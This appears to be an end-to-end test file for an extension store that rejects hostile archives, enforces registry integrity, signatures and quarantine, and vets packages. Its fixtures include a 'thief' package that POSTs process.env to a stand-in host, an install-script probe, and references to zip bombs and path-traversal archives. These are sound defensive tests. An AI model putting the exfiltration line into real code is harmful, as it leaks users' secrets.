import { createHash, randomBytes } from "node:crypto";
import {
  chmodSync,
  existsSync,
  mkdtempSync,
  readdirSync,
  realpathSync,
  renameSync,
  rmSync,
  statSync,
  writeFileSync,
} from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Signer } from "../../src/platform/powers.ts";
import { createSigner } from "../../src/platform/keys/signer.ts";
import { toBase64 } from "../../src/protocol/bytes.ts";
import type { ArchiveForm } from "../../src/protocol/extension-order.ts";
import type { ExtensionRequests, ExtensionSource } from "../../src/protocol/extension-table.ts";
import { addArchive } from "../e2e/adding.ts";
import { startSubstrate, type Substrate } from "../e2e/substrate.ts";
import { ATTESTED, attestationsOf, type Attested } from "../fakes/provenance/attested.ts";
import { makeTgz, makeZip, type TarPart } from "../fakes/archives.ts";
import { signedBy } from "../fakes/published.ts";
import { HOSTILE_ARCHIVES } from "../fakes/hostile-archives.ts";

/*
 * Extensions come from strangers: archives that would write elsewhere or fill the machine, registries that hand out something
 * else, and somebody who changes what lies in the store.
 */
type Added = ExtensionRequests["extension-add"]["ok"];
const PACKAGE = [
  { name: "package/package.json", body: '{"name":"notes","version":"1.0.0","scripts":{"install":"touch /tmp/ran"}}' },
  { name: "package/bin/notes.js", body: "#!/usr/bin/env node\n", mode: 0o755 },
];

describe("the store of extensions", () => {
  let aios: Substrate;
  let outside: string;

  beforeAll(async () => {
    aios = await startSubstrate();
    outside = realpathSync(mkdtempSync(join(tmpdir(), "aios-outside-")));
    chmodSync(outside, 0o777); // the monitor's user could write here, if it were led here
  });
  afterAll(async () => {
    await aios.stop();
    rmSync(outside, { recursive: true, force: true });
  });

  const add = (archive: Buffer, form: ArchiveForm, label = "archive"): Promise<Added> =>
    addArchive(aios, [archive], { form, label });
  const fail = (work: Promise<unknown>): Promise<string> =>
    work.then(
      () => "nothing",
      (error: unknown) => (error instanceof Error && "code" in error ? String(error.code) : String(error)),
    );
  const stored = (): readonly string[] => readdirSync(join(aios.home, "extensions"));
  const list = async (): Promise<readonly string[]> =>
    (await aios.client.request("extensions", {})).extensions.map(({ id }) => id);
  const records = async (kind: string): Promise<number> => {
    const query = { from: 0, limit: 10_000, instance: null, kinds: [kind] };
    return (await aios.client.request("log-show", query)).entries.length;
  };

  it("refuses hostile archives one by one, and nothing of them is left anywhere", async () => {
    const chosen = [
      "a path that leads up",
      "a symbolic link out, and a file through it",
      "names that differ in case",
      "a gzip bomb",
      "a zip bomb that says that it is small",
      "a second gzip member",
    ];
    for (const what of chosen) {
      const hostile = HOSTILE_ARCHIVES.find((each) => each.what === what);
      if (hostile === undefined) throw new Error(`there is no ${what}`);
      expect([what, await fail(add(hostile.bytes(), hostile.form))]).toEqual([what, hostile.code]);
    }
    expect(stored()).toEqual([]);
    expect(await list()).toEqual([]);
    expect(await records("extension-added")).toBe(0);
    expect(readdirSync(outside)).toEqual([]);
    expect(existsSync(join(aios.home, "..", "canary"))).toBe(false);
  });

  it("keeps an honest one read-only under the digest of its files, once, and runs nothing of it", async () => {
    const { extension, fresh } = await add(makeTgz(PACKAGE), "tgz");
    expect([fresh, extension.kind, extension.name, extension.version]).toEqual([true, "npm", "notes", "1.0.0"]);
    const lines = PACKAGE.map(({ name, body, mode }) => {
      const sum = createHash("sha256").update(body).digest("hex");
      return `${mode === undefined ? "-" : "x"} ${Buffer.byteLength(body)} ${sum} ${name.slice("package/".length)}\n`;
    });
    const listing = `aios-tree-v1\n${lines.toSorted((a, b) => ((a.split(" ")[3] ?? "") < (b.split(" ")[3] ?? "") ? -1 : 1)).join("")}`;
    expect(extension.id).toBe(`sha256:${createHash("sha256").update(listing).digest("hex")}`);
    const tree = join(aios.home, "extensions", extension.id.slice("sha256:".length), "tree");
    const modes = ["", "package.json", "bin", "bin/notes.js"].map((path) => statSync(join(tree, path)).mode & 0o777);
    expect(modes).toEqual([0o500, 0o400, 0o500, 0o500]);
    expect(existsSync("/tmp/ran")).toBe(false);
    // The same files by another way are the same extension.
    expect(await add(makeTgz(PACKAGE.toReversed()), "tgz")).toMatchObject({ fresh: false, extension });
    expect(await records("extension-added")).toBe(1);
  });

  it("says so when somebody changed a byte of it, and takes it anew", async () => {
    const [id = ""] = await list();
    const file = join(aios.home, "extensions", id.slice("sha256:".length), "tree", "package.json");
    chmodSync(file, 0o600);
    writeFileSync(file, '{"name":"other","version":"1.0.0"}');
    expect((await aios.client.request("extension-show", { id })).damaged).toContain("not those that were added");
    expect(await add(makeTgz(PACKAGE), "tgz")).toMatchObject({ fresh: true, extension: { id } });
    expect((await aios.client.request("extension-show", { id })).damaged).toBeNull();
  });

  it("has it looked through by a process that holds nothing, and takes no answer for a grave finding", async () => {
    const rules = async (id: string): Promise<readonly string[]> =>
      (await aios.client.request("extension-vet", { id })).findings.map(({ rule, path }) => `${rule} ${path}`);
    const thief = [
      { name: "package/package.json", body: '{"name":"thief","version":"1.0.0"}' },
      {
        name: "package/index.js",
        body: 'fetch("https://x.example", { method: "POST", body: JSON.stringify(process.env) });\n',
      },
    ];
    const { extension } = await add(makeTgz(thief), "tgz");
    expect(await rules(extension.id)).toContain("sends-environment index.js");
    const honest = [
      { name: "package/package.json", body: '{"name":"honest","version":"1.0.0"}' },
      { name: "package/index.js", body: "export const add = (a, b) => a + b;\n" },
    ];
    const twin = (await add(makeTgz(honest), "tgz")).extension.id;
    // What cannot be read was not found harmless.
    const tree = join(aios.home, "extensions", twin.slice("sha256:".length), "tree");
    renameSync(tree, `${tree}.away`);
    expect(await rules(twin)).toEqual(["not-vetted ."]);
    renameSync(`${tree}.away`, tree);
    expect(await rules(twin)).toEqual([]);
    for (const id of [extension.id, twin]) await aios.client.request("extension-remove", { id });
  });

  it("keeps what is in quarantine out, over a restart too, until it is removed", async () => {
    const [id = ""] = await list();
    await aios.client.request("extension-quarantine", { id, why: "its author's account was taken over" });
    expect(await fail(add(makeTgz(PACKAGE), "tgz"))).toBe("extension-quarantined");
    writeFileSync(join(aios.home, "extensions", "left-over"), "of a stop in the middle");
    await aios.crash();
    await aios.restart();
    expect(stored()).toEqual([id.slice("sha256:".length)]);
    expect((await aios.client.request("extensions", {})).extensions).toMatchObject([{ id, state: "quarantined" }]);
    await aios.client.request("extension-remove", { id });
    expect([await list(), stored()]).toEqual([[], []]);
    expect(await fail(aios.client.request("extension-show", { id }))).toBe("unknown-extension");
  });

  it("takes a package from a registry only when it is what the registry says", async () => {
    const honest = makeTgz(PACKAGE);
    const other = makeTgz([{ name: "package/package.json", body: '{"name":"evil","version":"1.0.0"}' }]);
    const sum = (bytes: Buffer): string => `sha512-${createHash("sha512").update(bytes).digest("base64")}`;
    let elsewhere = 0;
    const server = createServer((request, response) => {
      const { port } = server.address() as AddressInfo; // it listens
      const [, name = "", version] = /^\/([a-z-]+)\/(.*)$/u.exec(request.url ?? "") ?? [];
      if (name === "-") return void response.writeHead(503).end();
      if (name === "sent-on") return void response.writeHead(302, { location: "/notes/1.0.0" }).end();
      if (name === "files") return void response.end(version === "notes" ? honest : other);
      elsewhere += name === "notes" || name === "swapped" || name === "renamed" ? 0 : 1;
      const file = name === "notes" ? "notes" : "other";
      const integrity = name === "renamed" ? sum(other) : sum(honest);
      const dist = { tarball: `http://127.0.0.1:${port}/files/${file}`, integrity };
      response.end(JSON.stringify({ name, version, dist }));
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    try {
      const { port } = server.address() as AddressInfo; // it listens
      const fetchOf = (name: string): Promise<Added> =>
        aios.client.request("extension-add", {
          source: { kind: "npm", registry: `http://127.0.0.1:${port}`, name, version: "1.0.0", roots: null },
        });
      expect(await fail(fetchOf("swapped"))).toBe("fetch-integrity");
      expect(await fail(fetchOf("renamed"))).toBe("extension-manifest");
      expect(await fail(fetchOf("sent-on"))).toBe("fetch-elsewhere");
      expect(stored()).toEqual([]);
      expect(await fetchOf("notes")).toMatchObject({
        fresh: true,
        extension: { name: "notes", kind: "npm", provenance: { kind: "unread" } },
      });
      expect(elsewhere).toBe(0);
    } finally {
      server.closeAllConnections();
      server.close();
    }
  });

  it("says who built a package as far as that is proven, and holds against it what is not", async () => {
    const tarball = Buffer.from(ATTESTED.tarball, "base64");
    const integrity = `sha512-${createHash("sha512").update(tarball).digest("base64")}`;
    let attestations: string | null = null;
    const server = createServer((request, response) => {
      const { port } = server.address() as AddressInfo; // it listens
      const dist = { tarball: `http://127.0.0.1:${port}/files`, integrity };
      if (request.url === "/files") return void response.end(tarball);
      if (request.url === "/@acme%2fnotes/1.0.0")
        return void response.end(JSON.stringify({ name: "@acme/notes", version: "1.0.0", dist }));
      if (request.url !== "/-/npm/v1/attestations/@acme%2fnotes@1.0.0" || attestations === null)
        return void response.writeHead(404).end();
      response.end(attestations);
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    try {
      const { port } = server.address() as AddressInfo; // it listens
      const addBy = async (names: readonly Attested[] | null, roots: string): Promise<Added> => {
        attestations = names === null ? null : attestationsOf(...names);
        const source: ExtensionSource = {
          kind: "npm",
          registry: `http://127.0.0.1:${port}`,
          name: "@acme/notes",
          version: "1.0.0",
          roots,
        };
        return await aios.client.request("extension-add", { source });
      };
      const rulesOf = async ({ extension: { id } }: Added): Promise<readonly string[]> =>
        (await aios.client.request("extension-vet", { id })).findings.map(({ rule }) => rule);
      const roots = JSON.stringify(ATTESTED.roots);
      const before = await list();
      expect(await fail(addBy(["good"], "{}"))).toBe("fetch-roots");
      expect(await list()).toEqual(before);

      const good = await addBy(["good"], roots);
      expect(good).toMatchObject({
        fresh: true,
        extension: { provenance: { kind: "verified", repository: "https://github.com/acme/notes" } },
      });
      expect(await rulesOf(good)).toEqual([]);
      const forged = await addBy(["good", "otherDigest"], roots);
      expect(forged.extension.provenance).toMatchObject({ kind: "refused" });
      expect(await rulesOf(forged)).toEqual(["provenance-refused"]);
      // To keep it back later takes nothing away, and what is the same is not written twice.
      expect(await addBy(null, roots)).toMatchObject({ fresh: false, extension: forged.extension });
      await aios.client.request("extension-remove", { id: forged.extension.id });
    } finally {
      server.closeAllConnections();
      server.close();
    }
  });

  it("says who signed it by their key alone, and never takes a signature that does not hold for none", async () => {
    const [acme, other] = [1, 2].map((fill) => createSigner(new Uint8Array(32).fill(fill))) as [Signer, Signer];
    const about = (version: string) => ({ kind: "npm", name: "signed", version }) as const;
    const parts = (version: string, body = "export {};\n"): readonly TarPart[] => [
      { name: "package/package.json", body: JSON.stringify({ name: "signed", version }) },
      { name: "package/index.js", body },
    ];
    const publicationOf = async (all: readonly TarPart[]): Promise<unknown> =>
      (await add(makeTgz(all), "tgz")).extension.publication;
    const signedParts = signedBy(acme, parts("1.0.0"), about("1.0.0"));
    const [publication = { name: "" }] = signedParts.slice(-1);
    const key = toBase64(acme.publicKey);

    // A name that looks like another cannot be admitted at all, and neither can another key under one that is taken.
    const admit = (name: string, by: Signer): Promise<number> =>
      aios.sign("set-publishers", { kind: "admit", name, key: toBase64(by.publicKey) });
    await admit("acme", acme);
    expect(await fail(admit("\u0430cme", other))).toBe("bad-document");
    expect(await fail(admit("acme", other))).toBe("bad-document");
    expect(await fail(admit("acme-two", acme))).toBe("bad-document");
    for (const name of ["acme-", "ac--me"]) expect(await fail(admit(name, other))).toBe("bad-document");
    // Under this one, the identity of the curve, anybody signs.
    const key1 = toBase64(Uint8Array.from({ length: 32 }, (_, at) => (at === 0 ? 1 : 0)));
    const anybody = aios.sign("set-publishers", { kind: "admit", name: "anybody", key: key1 });
    expect(await fail(anybody)).toBe("bad-document");
    expect(await publicationOf(signedParts)).toEqual({ kind: "signed", key, admitted: "acme" });
    // The rest of what can be wrong with one is told apart without a store (publisher.test.ts, publication.test.ts).
    const refused: readonly (readonly [string, readonly TarPart[], string])[] = [
      ["beside other bytes", [...parts("1.0.0", "steal();\n"), publication], "another digest"],
      ["that is huge", [...parts("1.0.0"), { name: publication.name, body: randomBytes(1 << 20) }], "no text"],
    ];
    const ids: string[] = [];
    for (const [what, all, why] of refused) {
      const { extension } = await add(makeTgz(all), "tgz");
      expect([what, extension.publication]).toEqual([what, { kind: "refused", why: expect.stringContaining(why) }]);
      ids.push(extension.id);
    }
    const link = { name: publication.name, type: "2", link: "index.js" };
    expect(await fail(publicationOf([...parts("1.0.0"), link]))).toBe("archive-link");
    const { findings } = await aios.client.request("extension-vet", { id: ids[0] ?? "" });
    expect(findings.map(({ rule }) => rule)).toEqual(["publisher-refused"]);
    // Each was recorded once, before it was in the store.
    expect(await records("extension-published")).toBe(refused.length + 1);
    await aios.sign("set-publishers", { kind: "remove", name: "acme" });
  });

  it("takes a bundle, a skill in a zip and an address, each as what it is", async () => {
    const packed = makeZip([{ name: "tidy/SKILL.md", body: "---\nname: tidy\n---\nTidy up.\n" }]);
    const skill = await add(packed, "zip", "tidy.zip");
    expect(skill.extension).toMatchObject({ kind: "skill", name: "tidy", source: "tidy.zip" });
    expect((await aios.client.request("extension-show", { id: skill.extension.id })).files).toMatchObject([
      { path: "SKILL.md" },
    ]);
    const bundle = makeZip([
      { name: "manifest.json", body: '{"name":"files","version":"2.0.0","tools":[{"name":"read"}]}' },
    ]);
    const { extension } = await add(bundle, "zip", "files.mcpb");
    expect(extension).toMatchObject({ kind: "mcpb", name: "files", source: "files.mcpb" });
    const shown = await aios.client.request("extension-show", { id: extension.id });
    expect(shown.manifest.asks.tools).toEqual([{ name: "read", risk: "reserved" }]);
    const url = "https://mcp.example.com/mcp";
    const there = await aios.client.request("extension-add", { source: { kind: "http", url } });
    expect(there.extension).toMatchObject({ kind: "http", name: url });
    expect((await aios.client.request("extension-show", { id: there.extension.id })).damaged).toBeNull();
  });
});
